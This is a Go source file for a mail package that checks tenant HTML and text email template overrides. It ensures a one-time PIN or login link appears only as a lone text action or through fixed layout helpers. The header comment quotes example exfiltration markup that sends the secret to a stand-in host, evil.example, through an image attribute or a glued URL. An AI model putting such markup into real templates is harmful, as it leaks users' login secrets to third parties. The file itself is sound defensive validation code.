package mail

import (
	"fmt"
	"strings"
	"text/template/parse"
	"unicode"
	"unicode/utf8"
)

// A tenant's HTML override must not be able to send an email's one-time secret (its PIN or link)
// anywhere but to the reader: inside a tag attribute (<img src="https://evil.example/?{{.Link}}">) a
// mail client would hand it to a third party. So the secret may appear only as a lone {{.Link}} action
// where the markup is text, or as the argument of the layout's fixed helpers, whose own markup decides
// where it goes. Every other mention (in a tag, {{with}}, {{$x := …}}, printf, urlquery, the whole data
// through {{.}} or {{$}}…) is refused. Subjects are stored readable, so they may not mention it at all.
// The text part has no markup but the same rule: only a lone {{.Link}}. And in both bodies the lone
// action must stand alone, with no text glued to it: mail clients turn
// "https://evil.example/?u={{.Link}}" into one link to evil.example.

// secretHelpers are the layout templates an override may hand the secret to.
var secretHelpers = map[string]bool{"button": true, "fallback": true, "code": true}

// textEscaper is the only escaper html/template adds to an action in ordinary text: any other one
// (attribute, URL, CSS, JS, RCDATA) means the action is not in text.
const textEscaper = "_html_template_htmlescaper"

// secretPlacementError says where and why an override uses the secret in a way that is refused.
type secretPlacementError struct{ msg string }

func (e *secretPlacementError) Error() string { return e.msg }

// part is which part of an override a tree is.
type part int

const (
	inSubject part = iota
	inHTML         // escaped by html/template: lone actions and helpers are allowed in text
	inText         // plain text: lone actions are allowed
)

// secretWalk checks one parsed template for the secret field.
type secretWalk struct {
	field string
	tree  *parse.Tree
	part  part
	html  bool
	err   error
}

// edge is what stands next to a node in the output: a text, or something else (an action, a loop)
// whose output the source does not tell.
type edge struct {
	text   string
	opaque bool
}

// outside is the edge of a whole part: the layouts put a line break around the content.
var outside = edge{text: "\n"}

// checkSecretUse checks a subject tree, an escaped html/template content tree or a text content tree
// for uses of the secret field; nil when none is refused.
func checkSecretUse(field string, tree *parse.Tree, p part) error {
	if field == "" || tree == nil || tree.Root == nil {
		return nil
	}
	w := &secretWalk{field: field, tree: tree, part: p, html: p == inHTML}
	w.list(tree.Root, true, outside, outside)
	return w.err
}

func (w *secretWalk) fail(n parse.Node, format string, args ...any) {
	if w.err != nil {
		return
	}
	w.err = &secretPlacementError{msg: fmt.Sprintf(format, args...) + " (" + lineOf(w.tree, n) + ")"}
}

// list walks a list of nodes; dotIsData tells whether dot is still the email's whole data there, and
// before and after are what stands around the list in the output.
func (w *secretWalk) list(l *parse.ListNode, dotIsData bool, before, after edge) {
	if l == nil {
		return
	}
	for i, n := range l.Nodes {
		w.node(n, dotIsData, w.edgeBefore(l.Nodes, i, before), w.edgeAfter(l.Nodes, i, after))
	}
}

// edgeBefore is what stands before nodes[i]: the nearest non-empty text, or the list's own edge.
func (w *secretWalk) edgeBefore(nodes []parse.Node, i int, outer edge) edge {
	for j := i - 1; j >= 0; j-- {
		if e, known := w.edgeOf(nodes[j]); known {
			return e
		}
	}
	return outer
}

// edgeAfter is what stands after nodes[i].
func (w *secretWalk) edgeAfter(nodes []parse.Node, i int, outer edge) edge {
	for j := i + 1; j < len(nodes); j++ {
		if e, known := w.edgeOf(nodes[j]); known {
			return e
		}
	}
	return outer
}

// edgeOf is the edge that node n makes; not known for an empty text, which makes none.
func (w *secretWalk) edgeOf(n parse.Node) (edge, bool) {
	switch n := n.(type) {
	case *parse.TextNode:
		return edge{text: string(n.Text)}, len(n.Text) > 0
	case *parse.TemplateNode:
		if w.html && htmlHelpers[n.Name] { // each helper is one element: <p>…</p>, <table>…</table>
			return edge{text: "<>"}, true
		}
	}
	return edge{opaque: true}, true
}

func (w *secretWalk) node(n parse.Node, dotIsData bool, before, after edge) {
	opaque := edge{opaque: true}
	switch n := n.(type) {
	case *parse.ActionNode:
		if w.part != inSubject && w.loneSecret(n.Pipe) {
			if w.html && !w.inText(n.Pipe) {
				w.fail(n, "%s must not be inside a tag or attribute: it may only appear as text or through the layout's helpers (%s)", w.placeholder(), w.helpers())
				return
			}
			if !w.standsAlone(before, after) {
				w.fail(n, "%s must stand alone: put %s before and after it, so that no text (such as a web address) is glued to it", w.placeholder(), w.separators())
			}
			return
		}
		w.pipe(n, n.Pipe, dotIsData)
	case *parse.IfNode:
		w.pipe(n, n.Pipe, dotIsData)
		w.list(n.List, dotIsData, before, after)
		w.list(n.ElseList, dotIsData, before, after)
	case *parse.RangeNode:
		// The pipe may not mention the data as a whole or the secret, so inside the body dot is
		// something else. A body repeats, so its edges are not known.
		w.pipe(n, n.Pipe, dotIsData)
		w.list(n.List, false, opaque, opaque)
		w.list(n.ElseList, dotIsData, before, after)
	case *parse.WithNode:
		w.pipe(n, n.Pipe, dotIsData)
		w.list(n.List, false, opaque, opaque)
		w.list(n.ElseList, dotIsData, before, after)
	case *parse.TemplateNode:
		if w.html && w.helperCall(n) {
			return
		}
		if w.html && w.mangledHelperCall(n) {
			w.fail(n, "%s must not be inside a tag or attribute: {{template %q …}} may only be used where the markup is text", w.placeholder(), helperName(n.Name))
			return
		}
		w.pipe(n, n.Pipe, dotIsData)
	case *parse.ListNode:
		w.list(n, dotIsData, before, after)
	}
}

// standsAlone tells whether a lone secret action has a separator on both sides: white space (a line
// break included), or in HTML the end or start of a tag.
func (w *secretWalk) standsAlone(before, after edge) bool {
	if before.opaque || after.opaque {
		return false
	}
	last, _ := utf8.DecodeLastRuneInString(before.text)
	first, _ := utf8.DecodeRuneInString(after.text)
	return (unicode.IsSpace(last) || w.html && last == '>') && (unicode.IsSpace(first) || w.html && first == '<')
}

func (w *secretWalk) separators() string {
	if w.html {
		return "a space, a line break or a tag"
	}
	return "a space or a line break"
}

// pipe refuses any mention of the secret or of the whole data in p, reported on the node at.
func (w *secretWalk) pipe(at parse.Node, p *parse.PipeNode, dotIsData bool) {
	if p == nil {
		return
	}
	for _, c := range p.Cmds {
		for _, a := range c.Args {
			switch w.mentions(a, dotIsData) {
			case mentionsSecret:
				switch w.part {
				case inSubject:
					w.fail(at, "must not contain %s: subjects are stored and shown readable, and the secret belongs only in the body", w.placeholder())
				case inText:
					w.fail(at, "%s may only appear alone as %s, not in %s", w.placeholder(), w.placeholder(), describe(at, p))
				default:
					w.fail(at, "%s may only appear alone as %s in text or through the layout's helpers (%s), not in %s", w.placeholder(), w.placeholder(), w.helpers(), describe(at, p))
				}
				return
			case mentionsData:
				w.fail(at, "must not use the whole data ({{.}} or {{$}}) in %s: it holds %s", describe(at, p), w.placeholder())
				return
			}
		}
	}
}

// describe shows the action at as written: its keyword and pipe, without the escapers html/template
// added and without a body.
func describe(at parse.Node, p *parse.PipeNode) string {
	shown := *p
	shown.Cmds = nil
	for _, c := range p.Cmds {
		if !isEscaper(c) {
			shown.Cmds = append(shown.Cmds, c)
		}
	}
	keyword := ""
	switch at := at.(type) {
	case *parse.IfNode:
		keyword = "if "
	case *parse.RangeNode:
		keyword = "range "
	case *parse.WithNode:
		keyword = "with "
	case *parse.TemplateNode:
		keyword = fmt.Sprintf("template %q ", helperName(at.Name))
	}
	return "{{" + keyword + shown.String() + "}}"
}

type mention int

const (
	mentionsNothing mention = iota
	mentionsSecret
	mentionsData
)

// mentions tells whether an argument refers to the secret or to the whole data that holds it.
func (w *secretWalk) mentions(n parse.Node, dotIsData bool) mention {
	switch n := n.(type) {
	case *parse.FieldNode:
		if n.Ident[0] == w.field {
			return mentionsSecret
		}
	case *parse.VariableNode:
		if n.Ident[0] == "$" {
			if len(n.Ident) == 1 {
				return mentionsData
			}
			if n.Ident[1] == w.field {
				return mentionsSecret
			}
		}
	case *parse.DotNode:
		if dotIsData {
			return mentionsData
		}
	case *parse.ChainNode:
		for _, f := range n.Field {
			if f == w.field {
				return mentionsSecret
			}
		}
		return w.mentions(n.Node, dotIsData)
	case *parse.PipeNode:
		for _, c := range n.Cmds {
			for _, a := range c.Args {
				if m := w.mentions(a, dotIsData); m != mentionsNothing {
					return m
				}
			}
		}
	}
	return mentionsNothing
}

// isSecret tells whether n is exactly the secret field, {{.Link}}.
func (w *secretWalk) isSecret(n parse.Node) bool {
	f, ok := n.(*parse.FieldNode)
	return ok && len(f.Ident) == 1 && f.Ident[0] == w.field
}

// loneSecret tells whether an action prints just the secret: {{.Link}}, plus the escapers
// html/template added.
func (w *secretWalk) loneSecret(p *parse.PipeNode) bool {
	if p == nil || len(p.Decl) > 0 || len(p.Cmds) == 0 || len(p.Cmds[0].Args) != 1 || !w.isSecret(p.Cmds[0].Args[0]) {
		return false
	}
	for _, c := range p.Cmds[1:] {
		if !isEscaper(c) {
			return false
		}
	}
	return true
}

// inText tells whether html/template found the action in ordinary text: its only escaper is the
// text one.
func (w *secretWalk) inText(p *parse.PipeNode) bool {
	return len(p.Cmds) == 2 && identName(p.Cmds[1]) == textEscaper
}

func isEscaper(c *parse.CommandNode) bool {
	return strings.HasPrefix(identName(c), "_html_template_")
}

func identName(c *parse.CommandNode) string {
	if len(c.Args) != 1 {
		return ""
	}
	if id, ok := c.Args[0].(*parse.IdentifierNode); ok {
		return id.Ident
	}
	return ""
}

// helperCall tells whether n hands the secret to a fixed helper in text: {{template "code" .PIN}},
// {{template "fallback" .Link}} or {{template "button" (button .Link "Label")}} with a label that
// does not mention the secret. html/template renames a template called elsewhere than in text, so an
// unchanged name also proves the place.
func (w *secretWalk) helperCall(n *parse.TemplateNode) bool {
	if !secretHelpers[n.Name] || n.Pipe == nil || len(n.Pipe.Decl) > 0 || len(n.Pipe.Cmds) != 1 || len(n.Pipe.Cmds[0].Args) != 1 {
		return false
	}
	arg := n.Pipe.Cmds[0].Args[0]
	if n.Name != "button" {
		return w.isSecret(arg)
	}
	inner, ok := arg.(*parse.PipeNode)
	if !ok || len(inner.Decl) > 0 || len(inner.Cmds) != 1 || len(inner.Cmds[0].Args) != 3 {
		return false
	}
	args := inner.Cmds[0].Args
	fn, ok := args[0].(*parse.IdentifierNode)
	return ok && fn.Ident == "button" && w.isSecret(args[1]) && w.mentions(args[2], true) == mentionsNothing
}

// mangledHelperCall tells whether n is a helper call that html/template renamed because it is not in
// text, e.g. "code$htmltemplate_stateAttr…", and that hands over the secret.
func (w *secretWalk) mangledHelperCall(n *parse.TemplateNode) bool {
	base := helperName(n.Name)
	if base == n.Name || !secretHelpers[base] {
		return false
	}
	renamed := *n
	renamed.Name = base
	return w.helperCall(&renamed)
}

func helperName(name string) string {
	base, _, _ := strings.Cut(name, "$htmltemplate_")
	return base
}

func (w *secretWalk) placeholder() string { return "{{." + w.field + "}}" }

func (w *secretWalk) helpers() string {
	if w.field == "PIN" {
		return `{{template "code" .PIN}}`
	}
	return `{{template "button" (button .` + w.field + ` "…")}} or {{template "fallback" .` + w.field + `}}`
}
